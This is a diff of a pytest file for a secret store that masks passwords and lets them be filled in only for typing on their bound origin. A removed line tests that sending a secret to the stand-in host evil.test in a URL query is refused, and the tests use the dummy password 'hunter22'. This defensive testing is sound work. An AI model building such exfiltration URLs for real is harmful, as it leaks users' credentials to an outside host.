@@ -1,9 +1,11 @@
 from __future__ import annotations
 
+import pickle
+
 import pytest
 
 from skillbook.errors import NotAllowed
-from skillbook.policy.secrets import MASK, SecretStore
+from skillbook.policy.secrets import MASK, Secret, SecretStore, literal, read_literal
 
 ORIGIN = "https://shop.test"
 
@@ -23,7 +25,25 @@ def test_it_is_filled_in_for_typing_only(store: SecretStore) -> None:
     secret = store.add("shop.pw")
     assert store.fill_in({"value": secret}, command="fill", origin=ORIGIN) == {"value": "hunter22"}
     with pytest.raises(NotAllowed):
-        store.fill_in({"url": f"https://evil.test/?q={secret}"}, command="goto", origin=ORIGIN)
+        store.fill_in({"url": secret}, command="goto", origin=ORIGIN)
+
+
+def test_fault_51_text_is_never_a_secret(store: SecretStore) -> None:
+    secret = store.add("shop.pw")
+    for text in ("".join(secret), "${secret:shop.pw}", f"say {secret}"):
+        assert store.fill_in({"value": text}, command="fill", origin=ORIGIN) == {"value": text}
+        assert store.questions({"value": text}, origin=ORIGIN, field="Name", takes_secrets=False) == ()
+    mixed = Secret.within("${secret:shop.pw} and ${secret:other}", {"shop.pw"})
+    assert store.fill_in(mixed, command="fill", origin=ORIGIN) == "hunter22 and ${secret:other}"
+
+
+def test_a_secret_survives_copies_and_the_journal(store: SecretStore) -> None:
+    secret = pickle.loads(pickle.dumps(store.add("shop.pw")))
+    assert (secret, secret.names) == ("${secret:shop.pw}", {"shop.pw"})
+    kept = read_literal(secret)
+    assert isinstance(kept, Secret)
+    assert type(read_literal(literal("${secret:shop.pw}"))) is str
+    assert read_literal(literal("${secret:shop.pw}")) == "${secret:shop.pw}"
 
 
 def test_it_is_bound_to_the_origin_of_its_first_use(store: SecretStore) -> None:
@@ -42,7 +62,7 @@ def test_given_origins_bind_at_once(store: SecretStore) -> None:
 
 def test_unknown_and_empty_secrets_are_refused(store: SecretStore) -> None:
     with pytest.raises(NotAllowed):
-        store.fill_in("${secret:nobody}", command="fill", origin=ORIGIN)
+        store.fill_in(Secret("nobody"), command="fill", origin=ORIGIN)
     with pytest.raises(NotAllowed):
         store.add("absent")
     with pytest.raises(NotAllowed):
